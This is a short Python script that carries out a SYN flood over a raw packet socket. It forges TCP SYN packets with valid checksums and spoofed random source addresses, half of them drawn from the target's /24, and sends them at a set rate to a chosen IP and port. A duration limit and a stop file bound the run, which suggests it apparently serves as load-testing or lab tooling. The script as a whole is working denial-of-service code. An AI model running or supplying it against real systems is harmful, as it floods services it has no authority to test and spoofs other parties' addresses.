#!/usr/bin/env python3
"""A SYN flood from random sources, bounded in rate and time.

Usage: syn_flood.py IFNAME DST_MAC DST_IP DST_PORT RATE SECONDS SEED STOPFILE

Sends bare SYNs (MSS option, random sequence numbers) to DST_IP:DST_PORT
from random source addresses and ports: half from the consumer subnet of
DST_IP (/24), half from anywhere, as spoofed traffic would be.  RATE SYNs
a second in 10 ms batches, for SECONDS at most, or until STOPFILE exists.
Nothing is read: the SYN-ACKs go to addresses nobody holds.  Prints one
JSON line: SYNs sent, seconds spent, and whether STOPFILE ended it.
"""
import json
import os
import random
import socket
import struct
import sys
import time

ETH_P_IP = 0x0800


def csum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return (~s) & 0xFFFF


def syn(src, dst, sport, dport):
    opts = struct.pack("!BBH", 2, 4, 1460)          # MSS
    h = struct.pack("!HHIIBBHHH", sport, dport, random.getrandbits(32), 0, 6 << 4, 0x02,
                    64240, 0, 0) + opts
    pseudo = src + dst + struct.pack("!BBH", 0, 6, len(h))
    h = h[:16] + struct.pack("!H", csum(pseudo + h)) + h[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(h), random.getrandbits(16), 0x4000,
                     64, 6, 0, src, dst)
    ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
    return ip + h


def main():
    ifname, dst_mac, dst_ip, dport, rate, seconds, seed, stopfile = sys.argv[1:9]
    dport, rate, seconds = int(dport), int(rate), float(seconds)
    random.seed(int(seed))
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_IP))
    s.bind((ifname, 0))
    eth = bytes.fromhex(dst_mac.replace(":", "")) + s.getsockname()[4] + b"\x08\x00"
    dst = socket.inet_aton(dst_ip)
    net = dst[:3]
    batch = max(1, rate // 100)
    start = time.monotonic()
    sent, stopped = 0, False
    next_batch = start
    while time.monotonic() - start < seconds:
        if os.path.exists(stopfile):
            stopped = True
            break
        for _ in range(batch):
            if random.getrandbits(1):
                src = net + bytes([random.randrange(20, 250)])
            else:
                src = struct.pack("!I", random.randrange(0x01000000, 0xdf000000))
            try:
                s.send(eth + syn(src, dst, random.randrange(1024, 65536), dport))
                sent += 1
            except BlockingIOError:
                pass
        next_batch += 0.01
        delay = next_batch - time.monotonic()
        if delay > 0:
            time.sleep(delay)
    print(json.dumps({"sent": sent, "seconds": round(time.monotonic() - start, 2),
                      "stopped_by_file": stopped}))


if __name__ == "__main__":
    main()
